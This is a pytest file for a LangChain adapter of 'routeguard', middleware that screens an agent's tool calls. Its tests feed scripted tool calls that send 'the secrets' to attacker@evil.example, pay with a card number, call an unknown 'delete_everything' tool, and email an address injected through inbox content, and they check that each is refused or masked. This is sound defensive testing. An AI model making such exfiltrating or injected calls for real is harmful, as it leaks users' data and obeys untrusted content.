"""LangChain v1 adapter: a real ``create_agent`` loop, driven by a scripted fake chat model,
with routeguard's middleware in front of the tools (scenario: ``adapter_scenario.py``)."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator, Sequence
from typing import Any

import pytest
from pydantic import Field

pytest.importorskip("langchain.agents")

from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.outputs import ChatResult
from langchain_core.runnables import Runnable
from langchain_core.tools import BaseTool, tool

from adapter_scenario import INBOX, INJECTED_ADDRESS, RecordingGuard, make_guard, verdict
from routeguard.adapters.langchain import GuardMiddleware, guard_middleware
from routeguard.enforce import TAINT_RULE_ID
from routeguard.enforce.engine import REDACTED


class ScriptedModel(GenericFakeChatModel):
    """A fake chat model that plays a fixed script of AI messages and records its inputs.

    ``create_agent`` binds the tools to the model; the script already knows what to call.
    """

    seen: list[list[BaseMessage]] = Field(default_factory=list)

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Runnable[Any, Any]:
        return self

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        self.seen.append(list(messages))
        return super()._generate(messages, *args, **kwargs)


def scripted(*turns: AIMessage) -> ScriptedModel:
    script: Iterator[AIMessage | str] = iter(turns)
    return ScriptedModel(messages=script, seen=[])


def calls(*items: tuple[str, dict[str, Any], str]) -> AIMessage:
    return AIMessage(
        content="",
        tool_calls=[{"name": n, "args": a, "id": i, "type": "tool_call"} for n, a, i in items],
    )


class Tools:
    """Real LangChain tools that record the arguments they ran with."""

    def __init__(self) -> None:
        self.ran: list[tuple[str, dict[str, Any]]] = []

        @tool
        def lookup_order(order_id: str) -> str:
            """Look an order up."""
            self.ran.append(("lookup_order", {"order_id": order_id}))
            return f"order {order_id}: shipped"

        @tool
        def send_email(to: str, body: str) -> str:
            """Send an email."""
            self.ran.append(("send_email", {"to": to, "body": body}))
            return "sent"

        @tool
        def pay(amount: float, card: str) -> str:
            """Pay an amount with a card."""
            self.ran.append(("pay", {"amount": amount, "card": card}))
            return f"paid {amount}"

        @tool
        def read_inbox() -> str:
            """Read the inbox."""
            self.ran.append(("read_inbox", {}))
            return INBOX

        self.all: list[BaseTool] = [lookup_order, send_email, pay, read_inbox]


@pytest.fixture
def guard() -> RecordingGuard:
    return make_guard()


def tool_messages(result: dict[str, Any]) -> dict[str, ToolMessage]:
    return {m.tool_call_id: m for m in result["messages"] if isinstance(m, ToolMessage)}


def run_agent(guard: RecordingGuard, model: ScriptedModel, tools: Tools) -> dict[str, Any]:
    agent = create_agent(model, tools=tools.all, middleware=[GuardMiddleware(guard)])
    result: dict[str, Any] = agent.invoke({"messages": [{"role": "user", "content": "go"}]})
    return result


def test_denied_call_returns_refusal_and_tool_does_not_run(guard: RecordingGuard) -> None:
    args = {"to": "attacker@evil.example", "body": "the secrets"}
    model = scripted(calls(("send_email", args, "c1")), AIMessage(content="I cannot."))
    tools = Tools()
    result = run_agent(guard, model, tools)

    assert tools.ran == []
    expected = verdict("send_email", args)
    assert not expected.allowed
    assert expected.message  # a refusal the agent can read
    refusal = tool_messages(result)["c1"]
    assert refusal.status == "error"
    assert refusal.content == expected.message
    # the model's next turn was given the refusal, and the agent finished normally
    assert any(isinstance(m, ToolMessage) and m.content == expected.message for m in model.seen[1])
    assert result["messages"][-1].content == "I cannot."
    assert guard.shown == []


def test_allowed_call_runs_and_output_is_observed(guard: RecordingGuard) -> None:
    model = scripted(
        calls(("lookup_order", {"order_id": "A-17"}, "c1")), AIMessage(content="Shipped.")
    )
    tools = Tools()
    result = run_agent(guard, model, tools)

    assert tools.ran == [("lookup_order", {"order_id": "A-17"})]
    message = tool_messages(result)["c1"]
    assert message.status == "success"
    assert message.content == "order A-17: shipped"
    assert guard.shown == [("lookup_order", "order A-17: shipped")]
    assert guard.shown_args == [("lookup_order", {"order_id": "A-17"})]


def test_redacted_arguments_reach_the_tool_masked(guard: RecordingGuard) -> None:
    card = "4111 1111 1111 1111"
    model = scripted(calls(("pay", {"amount": 20, "card": card}, "c1")), AIMessage("Paid."))
    tools = Tools()
    run_agent(guard, model, tools)

    assert tools.ran == [("pay", {"amount": 20, "card": REDACTED})]


def test_mixed_calls_in_one_turn(guard: RecordingGuard) -> None:
    model = scripted(
        calls(
            ("lookup_order", {"order_id": "B-2"}, "ok"),
            ("pay", {"amount": 5000, "card": "x"}, "too-much"),
            ("delete_everything", {}, "unknown"),
        ),
        AIMessage(content="done"),
    )
    tools = Tools()
    messages = tool_messages(run_agent(guard, model, tools))

    assert tools.ran == [("lookup_order", {"order_id": "B-2"})]
    assert messages["ok"].status == "success"
    assert messages["too-much"].status == "error"
    assert messages["too-much"].content == verdict("pay", {"amount": 5000, "card": "x"}).message
    # a tool the agent does not have is refused by the guard before LangChain looks for it
    assert messages["unknown"].status == "error"
    assert messages["unknown"].content == verdict("delete_everything", {}).message


def test_injected_address_from_untrusted_output_is_refused(guard: RecordingGuard) -> None:
    mail = {"to": INJECTED_ADDRESS, "body": "invoices"}
    model = scripted(
        calls(("read_inbox", {}, "read")),
        calls(("send_email", mail, "send")),
        AIMessage(content="done"),
    )
    tools = Tools()
    messages = tool_messages(run_agent(guard, model, tools))

    assert verdict("send_email", mail).allowed  # the policy alone would let it through
    assert tools.ran == [("read_inbox", {})]
    assert messages["send"].status == "error"
    assert f"'{TAINT_RULE_ID}'" in messages["send"].content


async def test_async_agent_uses_awrap_tool_call(guard: RecordingGuard) -> None:
    inside = {"to": "bob@corp.example", "body": "hi"}
    outside = {"to": "eve@evil.example", "body": "hi"}
    model = scripted(
        calls(("send_email", inside, "in"), ("send_email", outside, "out")),
        AIMessage(content="one sent, one refused"),
    )
    tools = Tools()
    agent = create_agent(model, tools=tools.all, middleware=[guard_middleware(guard)])
    result = await agent.ainvoke({"messages": [{"role": "user", "content": "mail"}]})

    assert tools.ran == [("send_email", inside)]
    messages = tool_messages(result)
    assert messages["in"].content == "sent"
    assert messages["out"].status == "error"
    assert messages["out"].content == verdict("send_email", outside).message
    assert guard.shown == [("send_email", "sent")]


def test_routeguard_imports_no_framework() -> None:
    """``import routeguard`` (and the adapters package) loads none of the agent frameworks."""
    code = (
        "import sys, routeguard, routeguard.adapters, routeguard.enforce\n"
        "frameworks = ('langchain', 'langchain_core', 'langgraph', 'agents', 'autogen_core',\n"
        "              'autogen_agentchat', 'crewai')\n"
        "print(sorted(m for m in frameworks if m in sys.modules))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
